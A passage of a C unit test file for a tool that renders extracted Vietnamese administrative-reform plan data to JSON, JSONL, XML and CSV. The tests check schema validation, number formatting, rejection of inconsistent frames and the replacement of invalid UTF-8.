  assert_jstr(j, "tasks/0/lead/0/text", "Văn phòng HĐND & UBND xã");
  assert_jspan(j, "tasks/0/lead/0/span", 850, 880);
  assert_jnull(j, "tasks/0/lead_from");
  ck_assert_uint_eq(json_array_size(jat(j, "tasks/0/coordinators")), 2);
  assert_jnull(j, "tasks/0/coordinators/0/key");
  assert_jstr(j, "tasks/0/coordinators/0/name",
              "name:Trung tâm Chuyển đổi số tỉnh");
  assert_jstr(j, "tasks/0/coordinators/1/key", "cong_an");
  assert_jstr(j, "tasks/0/deadline", "d1");
  assert_jstr(j, "tasks/0/products", "Báo cáo, kế hoạch");
  assert_jnull(j, "tasks/0/budget");
  assert_jstr(j, "tasks/0/target", "t1");
  ck_assert(json_is_array(jat(j, "tasks/1/lead")));
  ck_assert_uint_eq(json_array_size(jat(j, "tasks/1/lead")), 0);
  ck_assert_uint_eq(json_array_size(jat(j, "tasks/1/coordinators")), 0);
  assert_jstr(j, "tasks/1/lead_from", "area");
  assert_jnull(j, "tasks/1/section");
  assert_jnull(j, "tasks/1/deadline");
  assert_jnull(j, "tasks/1/target");

  assert_jstr(j, "leads/0/area", "the_che");
  assert_jstr(j, "leads/0/unit/key", "tu_phap");
  assert_jspan(j, "leads/0/unit/span", 950, 957);
  assert_jstr(j, "leads/0/rule", "lead.area");

  assert_jstr(j, "inconsistencies/0/indicator", "tthc.dung_han");
  assert_jstr(j, "inconsistencies/0/first", "t1");
  assert_jstr(j, "inconsistencies/0/second", "t2");
  assert_jspan(j, "inconsistencies/0/spans/0", 610, 640);
  assert_jspan(j, "inconsistencies/0/spans/1", 650, 665);

  /* The top-level fields, in the order of the contract. */
  static const char *const order[] = {
      "schema",  "source", "document", "references", "sections",
      "targets", "deadlines", "tasks", "leads",      "inconsistencies"};
  size_t i = 0;
  const char *key;
  json_t *val;
  json_object_foreach(j, key, val) {
    ck_assert_uint_lt(i, sizeof order / sizeof *order);
    ck_assert_str_eq(key, order[i++]);
  }
  ck_assert_uint_eq(i, sizeof order / sizeof *order);
  json_decref(j);
  free(out);
  cchc_frame_free(f);
}
END_TEST

START_TEST(jsonl_one_line) {
  cchc_frame *f = hand_frame();
  size_t len;
  char *line = render(f, CCHC_FORMAT_JSONL, 0, &len);
  char *pretty = render(f, CCHC_FORMAT_JSON, 0, NULL);
  ck_assert_uint_eq(count_substr(line, len, "\n"), 1);
  ck_assert_int_eq(line[len - 1], '\n');
  json_t *a = parse_json(line), *b = parse_json(pretty);
  ck_assert_msg(json_equal(a, b), "jsonl and json differ");
  json_decref(a);
  json_decref(b);
  free(line);
  free(pretty);
  cchc_frame_free(f);
}
END_TEST

START_TEST(json_validates_against_schema) {
  cchc_frame *f = hand_frame();
  char *out = render(f, CCHC_FORMAT_JSON, 0, NULL);
  json_t *j = parse_json(out);
  assert_schema_valid(j, "hand-built frame");
  json_decref(j);
  free(out);
  cchc_frame_free(f);

  /* An empty frame: every field null, every array empty. */
  f = frame_new();
  out = render(f, CCHC_FORMAT_JSON, 0, NULL);
  j = parse_json(out);
  assert_schema_valid(j, "empty frame");
  assert_jnull(j, "source/path");
  assert_jnull(j, "source/sha256");
  assert_jnull(j, "document/year");
  assert_jnull(j, "document/period/start");
  ck_assert_uint_eq(json_object_size(jat(j, "document/provenance")), 0);
  static const char *const arrays[] = {"references", "sections", "targets",
                                       "deadlines",  "tasks",    "leads",
                                       "inconsistencies"};
  for (size_t i = 0; i < sizeof arrays / sizeof *arrays; i++) {
    ck_assert_msg(json_is_array(jat(j, arrays[i])), "%s", arrays[i]);
    ck_assert_uint_eq(json_array_size(jat(j, arrays[i])), 0);
  }
  json_decref(j);
  free(out);
  cchc_frame_free(f);
}
END_TEST

/* The validator rejects frames that break the schema, naming the place. */
START_TEST(json_schema_rejects_broken_frames) {
  cchc_frame *f = hand_frame();
  char *out = render(f, CCHC_FORMAT_JSON, 0, NULL);
  json_t *good = parse_json(out);
  free(out);
  cchc_frame_free(f);
  static const struct {
    const char *path;  /* object holding the field */
    const char *key;   /* field changed */
    const char *value; /* new JSON value; NULL: delete the field */
    const char *where; /* in the message */
  } cases[] = {
      {"targets/0", "comparator", NULL, "required property 'comparator'"},
      {"document", "year", "\"2026\"", "/document/year: wrong type"},
      {"targets/0", "value", "\"98.5\"", "/targets/0/value: wrong type"},
      {"targets/0", "value", "null", "/targets/0/value: wrong type"},
      {"targets/1", "comparator", "\"about\"", "/targets/1/comparator"},
      {"targets/2", "unit", "\"percent\"", "/targets/2/unit"},
      {"targets/0", "colour", "\"red\"", "/targets/0/colour: property not"},
      {"source", "sha256", "\"xyz\"", "/source/sha256: does not match"},
      {"source", "bytes", "-1", "/source/bytes: below"},
      {"targets/0", "span", "[1]", "/targets/0/span: fewer"},
      {"targets/0", "span", "[1, 2, 3]", "/targets/0/span: more"},
      {"document/parent", "date", "\"25/01/2026\"", "/document/parent/date"},
      {"tasks/0/lead/0", "span", "[1.5, 2]", "/tasks/0/lead/0/span/0"},
      {"deadlines/0", "year_inferred", "0", "/deadlines/0/year_inferred"},
      {"", "schema", "\"cchc/2\"", "/schema: value differs"},
      {"", "tasks", NULL, "required property 'tasks'"},
      {"document/provenance", "author", "{\"span\": [0, 1], \"rule\": null}",
       "/document/provenance/author"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
    json_t *bad = json_deep_copy(good);
    json_t *obj = *cases[i].path ? jat(bad, cases[i].path) : bad;
    ck_assert_ptr_nonnull(obj);
    if (cases[i].value) {
      json_error_t je;
      json_t *v = json_loads(cases[i].value, JSON_DECODE_ANY, &je);
      ck_assert_ptr_nonnull(v);
      json_object_set_new(obj, cases[i].key, v);
    } else {
      ck_assert_int_eq(json_object_del(obj, cases[i].key), 0);
    }
    char msg[4096];
    int n = schema_errors(bad, msg, sizeof msg);
    ck_assert_msg(n > 0, "case %zu (%s.%s) accepted", i, cases[i].path,
                  cases[i].key);
    ck_assert_msg(strstr(msg, cases[i].where) != NULL,
                  "case %zu: no [%s] in:\n%s", i, cases[i].where, msg);
    json_decref(bad);
  }
  json_decref(good);
}
END_TEST

START_TEST(schema_text_matches_published_files) {
  size_t len;
  char *json = root_file("emit/schema/frame.schema.json", &len);
  ck_assert_ptr_nonnull(cchc_schema("json"));
  ck_assert_uint_eq(strlen(cchc_schema("json")), len);
  ck_assert_msg(memcmp(cchc_schema("json"), json, len) == 0,
                "emit/schema.c and emit/schema/frame.schema.json differ");
  char *xsd = root_file("emit/schema/frame.xsd", &len);
  ck_assert_ptr_nonnull(cchc_schema("xml"));
  ck_assert_uint_eq(strlen(cchc_schema("xml")), len);
  ck_assert_msg(memcmp(cchc_schema("xml"), xsd, len) == 0,
                "emit/schema.c and emit/schema/frame.xsd differ");
  ck_assert_ptr_null(cchc_schema("yaml"));
  ck_assert_ptr_null(cchc_schema(NULL));
  /* The JSON Schema is JSON, declares draft 2020-12, and the XSD parses. */
  json_t *s = parse_json(json);
  assert_jstr(s, "$schema", "https://json-schema.org/draft/2020-12/schema");
  json_decref(s);
  xmlSchemaParserCtxtPtr pc = xmlSchemaNewMemParserCtxt(xsd, (int)len);
  xmlSchemaPtr schema = xmlSchemaParse(pc);
  ck_assert_ptr_nonnull(schema);
  xmlSchemaFree(schema);
  xmlSchemaFreeParserCtxt(pc);
  free(json);
  free(xsd);
}
END_TEST

/* ------------------------------------------------------------------ */
/* Unit tests: XML                                                     */

START_TEST(xml_validates_and_matches_json) {
  cchc_frame *f = hand_frame();
  size_t len;
  char *xml = render(f, CCHC_FORMAT_XML, 0, &len);
  char *json = render(f, CCHC_FORMAT_JSON, 0, NULL);
  ck_assert_msg(strstr(xml, "Nghĩa Trung") != NULL, "non-ASCII escaped");
  xmlDoc *doc = parse_xml(xml, len);
  assert_xsd_valid(doc, "hand-built frame");
  xmlNode *root = xmlDocGetRootElement(doc);
  ck_assert_str_eq((const char *)root->name, "frame");
  json_t *j = parse_json(json);
  xml_same_as_json(root, j, "", true);

  /* A few values read straight from the tree. */
  xmlNode *t = first_element(child(root, "targets")->children);
  char *text = content(child(t, "text"));
  ck_assert_str_eq(text, HARD_TEXT);
  xmlFree(text);
  text = content(child(t, "value"));
  ck_assert_str_eq(text, "98.5");
  xmlFree(text);
  ck_assert_ptr_null(child(t, "value_max"));
  t = first_element(first_element(t->next)->next);
  text = content(child(t, "text"));
  ck_assert_str_eq(text, COUNT_TEXT); /* the CR survives */
  xmlFree(text);
  xmlNode *d = child(root, "document");
  ck_assert_ptr_null(child(d, "signer"));
  text = content(child(d, "title"));
  ck_assert_str_eq(text, HARD_TITLE);
  xmlFree(text);

  json_decref(j);
  xmlFreeDoc(doc);
  free(xml);
  free(json);
  cchc_frame_free(f);

  f = frame_new();
  xml = render(f, CCHC_FORMAT_XML, 0, &len);
  doc = parse_xml(xml, len);
  assert_xsd_valid(doc, "empty frame");
  json = render(f, CCHC_FORMAT_JSON, 0, NULL);
  j = parse_json(json);
  xml_same_as_json(xmlDocGetRootElement(doc), j, "", true);
  json_decref(j);
  xmlFreeDoc(doc);
  free(xml);
  free(json);
  cchc_frame_free(f);
}
END_TEST

/* The XSD is strict: broken documents are rejected. */
START_TEST(xsd_rejects_broken_documents) {
  cchc_frame *f = hand_frame();
  size_t len;
  char *xml = render(f, CCHC_FORMAT_XML, 0, &len);
  cchc_frame_free(f);
  static const struct {
    const char *parent; /* child of <frame> holding the first item */
    const char *field;
    const char *text; /* new text; NULL: remove the element */
  } cases[] = {
      {"targets", "comparator", NULL},      {"targets", "comparator", "about"},
      {"targets", "value", "nhiều"},        {"targets", "section", "s99"},
      {"targets", "span", NULL},            {"sections", "id", "s2"},
      {"tasks", "deadline", "d9"},          {"references", "date", "15/07/2022"},
      {"deadlines", "year_inferred", "có"}, {"inconsistencies", "first", "t9"},
      {"tasks", "target", "t7"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
    xmlDoc *doc = parse_xml(xml, len);
    xmlNode *root = xmlDocGetRootElement(doc);
    xmlNode *item = first_element(child(root, cases[i].parent)->children);
    xmlNode *el = child(item, cases[i].field);
    ck_assert_msg(el != NULL, "case %zu: no <%s>", i, cases[i].field);
    if (cases[i].text) {
      xmlNodeSetContent(el, BAD_CAST cases[i].text);
    } else {
      xmlUnlinkNode(el);
      xmlFreeNode(el);
    }
    xerrs x;
    ck_assert_msg(xsd_validate_doc(doc, &x) != 0,
                  "case %zu: <%s> in <%s> accepted", i, cases[i].field,
                  cases[i].parent);
    xmlFreeDoc(doc);
  }
  /* And the root attribute is required. */
  xmlDoc *doc = parse_xml(xml, len);
  xmlUnsetProp(xmlDocGetRootElement(doc), BAD_CAST "schema");
  xerrs x;
  ck_assert(xsd_validate_doc(doc, &x) != 0);
  xmlFreeDoc(doc);
  free(xml);
}
END_TEST

/* ------------------------------------------------------------------ */
/* Unit tests: CSV                                                     */

START_TEST(csv_parses_back) {
  cchc_frame *f = hand_frame();
  size_t len;
  char *out = render(f, CCHC_FORMAT_CSV, CCHC_RENDER_CSV_HEADER, &len);
  ck_assert_msg(len > 3 && memcmp(out, BOM, 3) == 0, "no BOM");
  ck_assert_uint_eq(count_substr(out, len, BOM), 1);
  ck_assert_msg(len >= 2 && !memcmp(out + len - 2, "\r\n", 2),
                "rows end with CRLF");
  csv_table t = csv_read(out + 3, len - 3);
  ck_assert_uint_eq(t.n, 4);
  ck_assert_msg(is_header(&t.rows[0]), "first row is not the header");
  const csv_row *r = &t.rows[1];
  assert_field(r, 0, HARD_PATH);
  assert_field(r, 1, "Nghĩa Trung");
  assert_field(r, 2, "2026");
  assert_field(r, 3, "t1");
  assert_field(r, 4, "1.");
  assert_field(r, 5, "tthc");
  assert_field(r, 6, "tthc.dung_han");
  assert_field(r, 7, "hồ sơ \"đúng hạn\"");
  assert_field(r, 8, ">=");
  assert_field(r, 9, "98.5");
  assert_field(r, 10, NULL);
  assert_field(r, 11, "%");
  assert_field(r, 12, HARD_TEXT);
  assert_field(r, 13, "610");
  assert_field(r, 14, "640");
  assert_field(r, 15, "target.percent");
  r = &t.rows[2];
  assert_field(r, 3, "t2");
  assert_field(r, 4, "a)");
  assert_field(r, 6, NULL);
  assert_field(r, 7, NULL);
  assert_field(r, 8, "range");
  assert_field(r, 9, "95");
  assert_field(r, 10, "100");
  assert_field(r, 12, RANGE_TEXT);
  r = &t.rows[3];
  assert_field(r, 3, "t3");
  assert_field(r, 4, NULL);
  assert_field(r, 5, NULL);
  assert_field(r, 7, ""); /* empty string, not null */
  assert_field(r, 9, "2");
  assert_field(r, 11, "count");
  assert_field(r, 12, COUNT_TEXT);
  csv_table_free(&t);
  free(out);

  /* Without the flag: no BOM, no header, the same rows. */
  out = render(f, CCHC_FORMAT_CSV, 0, &len);
  ck_assert_msg(memcmp(out, BOM, 3) != 0, "BOM without the header flag");
  t = csv_read(out, len);
  ck_assert_uint_eq(t.n, 3);
  assert_field(&t.rows[0], 3, "t1");
  assert_field(&t.rows[0], 12, HARD_TEXT);
  csv_table_free(&t);
  free(out);
  cchc_frame_free(f);

  /* No targets: only the header, or nothing. */
  f = frame_new();
  out = render(f, CCHC_FORMAT_CSV, CCHC_RENDER_CSV_HEADER, &len);
  ck_assert_msg(memcmp(out, BOM, 3) == 0, "no BOM");
  t = csv_read(out + 3, len - 3);
  ck_assert_uint_eq(t.n, 1);
  ck_assert(is_header(&t.rows[0]));
  csv_table_free(&t);
  free(out);
  out = render(f, CCHC_FORMAT_CSV, 0, &len);
  ck_assert_uint_eq(len, 0);
  free(out);
  cchc_frame_free(f);
}
END_TEST

/* ------------------------------------------------------------------ */
/* Unit tests: numbers, names, bad frames, bad strings                 */

/* cchc_integer_text prints what "%lld" and jansson print (JSON, XML and
 * CSV write integers with it): the ends of long long, each power of ten
 * and its neighbours, and a spread of values between. */
START_TEST(integer_text) {
  long long cases[200];
  size_t n = 0;
  cases[n++] = 0;
  cases[n++] = LLONG_MAX;
  cases[n++] = LLONG_MIN;
  cases[n++] = LLONG_MIN + 1;
  for (long long p = 1; p <= LLONG_MAX / 10; p *= 10) {
    cases[n++] = p;
    cases[n++] = p - 1;
    cases[n++] = p + 1;
    cases[n++] = -p;
    cases[n++] = -p + 1;
  }
  for (unsigned long long x = 12345; n < sizeof cases / sizeof *cases;) {
    x = x * 6364136223846793005ULL + 1442695040888963407ULL;
    cases[n++] = (long long)(x >> (x % 60));
  }
  json_t *jv = json_integer(0);
  ck_assert_ptr_nonnull(jv);
  for (size_t i = 0; i < n; i++) {
    char text[CCHC_INTEGER_MAX + 1], want[32], jtext[32];
    size_t len = cchc_integer_text(cases[i], text);
    ck_assert_uint_le(len, CCHC_INTEGER_MAX);
    text[len] = '\0';
    snprintf(want, sizeof want, "%lld", cases[i]);
    ck_assert_str_eq(text, want);
    ck_assert_int_eq(json_integer_set(jv, cases[i]), 0);
    size_t jn = json_dumpb(jv, jtext, sizeof jtext - 1, JSON_ENCODE_ANY);
    jtext[jn] = '\0';
    ck_assert_str_eq(text, jtext);
  }
  json_decref(jv);
}
END_TEST

START_TEST(number_text) {
  static const struct {
    double v;
    const char *text;
  } cases[] = {
      {98.5, "98.5"}, {98, "98"},   {0, "0"},      {12.3, "12.3"},
      {-0.5, "-0.5"}, {1e20, "1e20"}, {1e-7, "1e-7"}, {0.1 + 0.2, "0.3"},
      {100, "100"},   {2.25, "2.25"}, {1234567, "1234567"},
  };
  char buf[40];
  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
    ck_assert_str_eq(emit_format_number(cases[i].v, buf), cases[i].text);
  /* JSON prints the same text. */
  cchc_frame *f = frame_new();
  frame_target *t = FRAME_PUSH(f, targets);
  t->id = "t1";
  t->section = -1;
  t->comparator = "=";
  t->unit = "%";
  t->rule = "r";
  t->value = 12.3;
  t->value_max = 1e-7;
  t->has_value_max = true;
  char *out = render(f, CCHC_FORMAT_JSONL, 0, NULL);
  ck_assert_msg(strstr(out, "\"value\":12.3,\"value_max\":1e-7,"), "%s", out);
  free(out);
  out = render(f, CCHC_FORMAT_XML, 0, NULL);
  ck_assert_msg(strstr(out, "<value>12.3</value>"), "%s", out);
  ck_assert_msg(strstr(out, "<value_max>1e-7</value_max>"), "%s", out);
  free(out);
  cchc_frame_free(f);
}
END_TEST

START_TEST(format_names) {
  cchc_format fmt = CCHC_FORMAT_CSV;
  ck_assert(cchc_format_parse("json", &fmt) && fmt == CCHC_FORMAT_JSON);
  ck_assert(cchc_format_parse("jsonl", &fmt) && fmt == CCHC_FORMAT_JSONL);
  ck_assert(cchc_format_parse("xml", &fmt) && fmt == CCHC_FORMAT_XML);
  ck_assert(cchc_format_parse("csv", &fmt) && fmt == CCHC_FORMAT_CSV);
  ck_assert(!cchc_format_parse("JSON", &fmt));
  ck_assert(!cchc_format_parse("yaml", &fmt));
  ck_assert(!cchc_format_parse("", &fmt));
  ck_assert(!cchc_format_parse(NULL, &fmt));
  ck_assert_int_eq(fmt, CCHC_FORMAT_CSV);
}
END_TEST

typedef void (*breaker)(cchc_frame *f);
static void bad_section(cchc_frame *f) { f->targets[0].section = 99; }
static void bad_parent(cchc_frame *f) { f->sections[1].parent = 7; }
static void bad_deadline(cchc_frame *f) { f->tasks[0].deadline = 2; }
static void bad_task_target(cchc_frame *f) { f->tasks[0].target = -2; }
static void bad_pair(cchc_frame *f) { f->inconsistencies[0].second = 3; }
static void bad_value(cchc_frame *f) { f->targets[1].value_max = NAN; }
static void bad_inf(cchc_frame *f) { f->targets[0].value = INFINITY; }
static void bad_year(cchc_frame *f) { f->document.year.value = "20x6"; }

/* An inconsistent frame is an error in every format, with a message. */
START_TEST(inconsistent_frames_rejected) {
  static const breaker breakers[] = {bad_section,  bad_parent, bad_deadline,
                                     bad_task_target, bad_pair, bad_value,
                                     bad_inf,      bad_year};
  for (size_t b = 0; b < sizeof breakers / sizeof *breakers; b++)
    for (int fmt = CCHC_FORMAT_JSON; fmt <= CCHC_FORMAT_CSV; fmt++) {
      cchc_frame *f = hand_frame();
      breakers[b](f);
      char *out = (char *)"untouched";
      size_t len = 99;
      cchc_error err = {0};
      cchc_status st =
          cchc_render(f, (cchc_format)fmt, CCHC_RENDER_CSV_HEADER, &out, &len,
                      &err);
      ck_assert_msg(st == CCHC_ERR_INVALID, "breaker %zu format %d: %d", b,
                    fmt, st);
      ck_assert_ptr_null(out);
      ck_assert_uint_eq(len, 0);
      ck_assert_msg(err.message[0] != '\0', "no message");
      cchc_frame_free(f);
    }
  /* A frame whose building ran out of memory is not emitted. */
  cchc_frame *f = hand_frame();
  f->failed = true;
  char *out = NULL;
  size_t len = 0;
  cchc_error err = {0};
  ck_assert_int_eq(cchc_render(f, CCHC_FORMAT_JSON, 0, &out, &len, &err),
                   CCHC_ERR_NOMEM);
  ck_assert_int_eq(cchc_render(f, (cchc_format)42, 0, &out, &len, &err),
                   CCHC_ERR_INVALID);
  cchc_frame_free(f);
}
END_TEST

/* Invalid UTF-8 and characters XML cannot carry become U+FFFD in every
 * format alike, so the XML still parses. */
START_TEST(bad_strings_replaced) {
  cchc_frame *f = hand_frame();
  f->document.place.value = "Nghĩa\x01Trung\xC3 \xEF\xBF\xBE|\t\r\n";
  f->targets[0].text = "bad \xE1\xBB end\x1B";
  const char *place = "Nghĩa\uFFFDTrung\uFFFD \uFFFD|\t\r\n";
  const char *text = "bad \uFFFD\uFFFD end\uFFFD";
  size_t len;
  char *out = render(f, CCHC_FORMAT_JSON, 0, NULL);
  json_t *j = parse_json(out);
  assert_jstr(j, "document/place", place);
  assert_jstr(j, "targets/0/text", text);
  assert_schema_valid(j, "frame with bad strings");
  free(out);
  out = render(f, CCHC_FORMAT_XML, 0, &len);
  xmlDoc *doc = parse_xml(out, len);
  assert_xsd_valid(doc, "frame with bad strings");
  xml_same_as_json(xmlDocGetRootElement(doc), j, "", true);
  xmlFreeDoc(doc);
  free(out);
  out = render(f, CCHC_FORMAT_CSV, 0, &len);
  csv_table t = csv_read(out, len);
  assert_field(&t.rows[0], 1, place);
  assert_field(&t.rows[0], 12, text);
  csv_table_free(&t);
  free(out);
  json_decref(j);
  cchc_frame_free(f);
}
END_TEST

/* Section i's heading: short ones that repeat or not, and long ones
 * that share their length and both ends but not their middle (the
 * writer's table hashes the ends of long strings), repeated or not. */
static void heading_of(size_t i, char *buf, size_t size) {
  const char *ends = "Nhiệm vụ cải cách hành chính năm 2026";
  if (i % 4 == 1)
    snprintf(buf, size, "%s %05zu %s", ends, i % 3 ? i : i % 9, ends);
  else
    snprintf(buf, size, "Mục \"%zu\"", i % 2 ? i : i % 10);
}

/* `out` is the document j as jansson prints it in the layout `layout`
 * (JSON_COMPACT or JSON_INDENT(2)), and a newline; `try` names the case
 * that failed. */
static void assert_laid_out_like_jansson(json_t *j, const char *out,
                                         size_t layout, int try) {
  char *again = json_dumps(j, JSON_PRESERVE_ORDER | JSON_REAL_PRECISION(15) |
                                  layout);
  ck_assert_ptr_nonnull(again);
  ck_assert_uint_eq(strlen(again) + 1, strlen(out));
  ck_assert_msg(memcmp(again, out, strlen(again)) == 0,
                "case %d: JSON laid out unlike jansson", try);
  free(again);
}

/* Strings and integers recur in a frame, and the JSON writer keeps their
 * text (emit/json.c): a frame of 600 sections, with 600 distinct ids
 * that crowd its table, numbers that repeat (quotes, backslashes, control
 * characters, bytes the walk replaces, the empty string, 47 quotes whose
 * text is longer than the string), headings short and long that repeat
 * or not, span ends and levels that recur, prints every
 * value exactly and is laid out as jansson lays out the whole document,
 * in JSON and jsonl. */
START_TEST(json_repeated_strings) {
  static const char *const numbers[] = {
      "1.", "\"a\"", "a\\b", "tab\tnew\nline", "",
      "\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"",
      "Điều 12 khoản 3 điểm b, Phụ lục II", "x\x01" "a", "x\x02" "b"};
  static const char *const printed_numbers[] = {
      "1.", "\"a\"", "a\\b", "tab\tnew\nline", "",
      "\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"",
      "Điều 12 khoản 3 điểm b, Phụ lục II", "x\uFFFDa", "x\uFFFDb"};
  enum { NSECTIONS = 600, NNUMBERS = sizeof numbers / sizeof *numbers };
  ck_assert_uint_eq(strlen(numbers[5]), 47);
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  char buf[128];
  for (size_t i = 0; i < NSECTIONS; i++) {
    frame_section *s = FRAME_PUSH(f, sections);
    ck_assert_ptr_nonnull(s);
    snprintf(buf, sizeof buf, "x%zu", i);
    s->id = frame_strdup(f, buf);
    s->number = frame_strdup(f, numbers[i % NNUMBERS]);
    heading_of(i, buf, sizeof buf);
    s->heading = frame_strdup(f, buf);
    s->level = (int)(i % 512);
    s->parent = -1;
    s->span = (frame_span){i * 300, i * 300 + 1};
    s->rule = frame_strdup(f, i % 3 ? "section.arabic" : "section.roman");
  }
  for (int fmt = CCHC_FORMAT_JSON; fmt <= CCHC_FORMAT_JSONL; fmt++) {
    char *out = render(f, (cchc_format)fmt, 0, NULL);
    json_t *j = parse_json(out);
    char path[64];
    for (size_t i = 0; i < NSECTIONS; i++) {
      snprintf(path, sizeof path, "sections/%zu/id", i);
      snprintf(buf, sizeof buf, "x%zu", i);
      assert_jstr(j, path, buf);
      snprintf(path, sizeof path, "sections/%zu/number", i);
      assert_jstr(j, path, printed_numbers[i % NNUMBERS]);
      snprintf(path, sizeof path, "sections/%zu/heading", i);
      heading_of(i, buf, sizeof buf);
      assert_jstr(j, path, buf);
      snprintf(path, sizeof path, "sections/%zu/rule", i);
      assert_jstr(j, path, i % 3 ? "section.arabic" : "section.roman");
      snprintf(path, sizeof path, "sections/%zu/span", i);
      assert_jspan(j, path, (long long)i * 300, (long long)i * 300 + 1);
      snprintf(path, sizeof path, "sections/%zu/level", i);
      assert_jint(j, path, (long long)(i % 512));
    }
    assert_laid_out_like_jansson(
        j, out,
        fmt == CCHC_FORMAT_JSONL ? JSON_COMPACT : JSON_INDENT(2), fmt);
    json_decref(j);
    free(out);
  }
  cchc_frame_free(f);
}
END_TEST

/* Strings of every length up to 40 bytes that differ from each other in
 * one byte, at each place, each print as they are, the first time and
 * when met again (at the same address, in the next document, on the
 * same thread). */
START_TEST(json_strings_one_byte_apart) {
  enum { LONGEST = 40 };
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  char buf[LONGEST + 1];
  size_t count = 0;
  for (size_t len = 1; len <= LONGEST; len++)
    for (size_t at = 0; at <= len; at++) { /* at == len: no byte apart */
      memset(buf, 'a', len);
      buf[len] = '\0';
      if (at < len)
        buf[at] = 'b';
      frame_section *sec = FRAME_PUSH(f, sections);
      ck_assert_ptr_nonnull(sec);
      sec->id = frame_strdup(f, buf);
      sec->heading = sec->id;
      sec->parent = -1;
      sec->rule = "r";
      count++;
    }
  for (int round = 0; round < 2; round++) {
    char *out = render(f, CCHC_FORMAT_JSONL, 0, NULL);
    json_t *j = parse_json(out);
    char path[64];
    for (size_t i = 0; i < count; i++) {
      snprintf(path, sizeof path, "sections/%zu/id", i);
      assert_jstr(j, path, f->sections[i].id);
      snprintf(path, sizeof path, "sections/%zu/heading", i);
      assert_jstr(j, path, f->sections[i].id);
    }
    json_decref(j);
    free(out);
  }
  cchc_frame_free(f);
}
END_TEST

/* The walk knows a string of the frame met again at its address clean
 * without a scan, and never a cleaned copy (its scratch buffer, one
 * address for every cleaned string): strings that are cleaned (a control
 * character, a lone lead byte, a bad byte at the end), the clean twin
 * before and after them, alike at both ends, under two names, in three
 * documents on one thread, print their cleaned text every time, with the
 * key of their place. */
START_TEST(json_raw_strings_recur_cleaned) {
  static const char *const raw[] = {
      "Nghĩa\xEF\xBF\xBDTrung", "Nghĩa\x01Trung", "Nghĩa\xC3Trung",
      "Nghĩa\xEF\xBF\xBDTrung", "Trung\xE1", "Trung\xEF\xBF\xBD",
      "Trung\x02", "Trung\xEF\xBF\xBD",
      /* as long, and the same 16 bytes at each end (the table hashes the
       * ends): one byte apart, bad in the second */
      "Kế hoạch cải cách năm 2026 | của tỉnh Nghệ An",
      "Kế hoạch cải cách năm 2026 \x01 của tỉnh Nghệ An"};
  static const char *const printed[] = {
      "Nghĩa\uFFFDTrung", "Nghĩa\uFFFDTrung", "Nghĩa\uFFFDTrung",
      "Nghĩa\uFFFDTrung", "Trung\uFFFD",      "Trung\uFFFD",
      "Trung\uFFFD",      "Trung\uFFFD",
      "Kế hoạch cải cách năm 2026 | của tỉnh Nghệ An",
      "Kế hoạch cải cách năm 2026 \uFFFD của tỉnh Nghệ An"};
  enum { N = sizeof raw / sizeof *raw };
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  for (size_t i = 0; i < 2 * N; i++) {
    frame_section *s = FRAME_PUSH(f, sections);
    ck_assert_ptr_nonnull(s);
    char id[16];
    snprintf(id, sizeof id, "s%zu", i);
    s->id = frame_strdup(f, id);
    /* the second half in the other order: the dirty one first */
    s->heading = raw[i < N ? i : 2 * N - 1 - i];
    s->number = raw[(i + 1) % N];
    s->parent = -1;
    s->rule = "r";
  }
  for (int round = 0; round < 3; round++) {
    char *out = render(f, CCHC_FORMAT_JSONL, 0, NULL);
    json_t *j = parse_json(out);
    char path[64];
    for (size_t i = 0; i < 2 * N; i++) {
      snprintf(path, sizeof path, "sections/%zu/heading", i);
      assert_jstr(j, path, printed[i < N ? i : 2 * N - 1 - i]);
      snprintf(path, sizeof path, "sections/%zu/number", i);
      assert_jstr(j, path, printed[(i + 1) % N]);
    }
    assert_laid_out_like_jansson(j, out, JSON_COMPACT, round);
    json_decref(j);
    free(out);
  }
  cchc_frame_free(f);
}
END_TEST

/* The walk takes a frame string met again in the document (by its
 * address) as it found it the first time, in a small table whose slots
 * other strings take over: a document of 2,600 distinct headings of 250
 * bytes, each section's area and rule at one address, prints every
 * heading, area and rule. */
START_TEST(json_shared_strings_across_memo_reset) {
  enum { NSECTIONS = 2600, HEADING = 250 };
  static const char *const area = "Cải cách thể chế", *rule = "section.arabic";
  cchc_frame *f = frame_new();
  ck_assert_ptr_nonnull(f);
  char buf[HEADING + 1];
  for (size_t i = 0; i < NSECTIONS; i++) {
    frame_section *sec = FRAME_PUSH(f, sections);
    ck_assert_ptr_nonnull(sec);
    snprintf(buf, sizeof buf, "x%zu", i);
    sec->id = frame_strdup(f, buf);
    int k = snprintf(buf, sizeof buf, "heading %zu ", i);
    memset(buf + k, 'a' + (char)(i % 26), HEADING - (size_t)k);
    buf[HEADING] = '\0';
    sec->heading = frame_strdup(f, buf);
    sec->area = area;
    sec->rule = rule;
    sec->parent = -1;
  }
  char *out = render(f, CCHC_FORMAT_JSONL, 0, NULL);
  json_t *j = parse_json(out);
  char path[64];
  for (size_t i = 0; i < NSECTIONS; i++) {
    snprintf(path, sizeof path, "sections/%zu/area", i);
    assert_jstr(j, path, area);
    snprintf(path, sizeof path, "sections/%zu/rule", i);
    assert_jstr(j, path, rule);
    snprintf(path, sizeof path, "sections/%zu/heading", i);
    assert_jstr(j, path, f->sections[i].heading);
  }
  json_decref(j);
  free(out);
  cchc_frame_free(f);
}
END_TEST

/* Long string i of json_long_strings_recur: one of a few, 300 bytes to
 * 5 KB, their ends alike (the writer's table hashes the ends), quotes
 * and a control character inside, and two of one length that differ in
 * the middle only. */
static void long_string_of(size_t i, char *buf, size_t size) {
  static const size_t lengths[] = {300, 300, 900, 4095, 4096, 5000};
  size_t kind = i % (sizeof lengths / sizeof *lengths);
  size_t n = lengths[kind] < size - 1 ? lengths[kind] : size - 1;
  const char *ends = "Kế hoạch \"CCHC\" năm 2026\t", *word = "xã ";
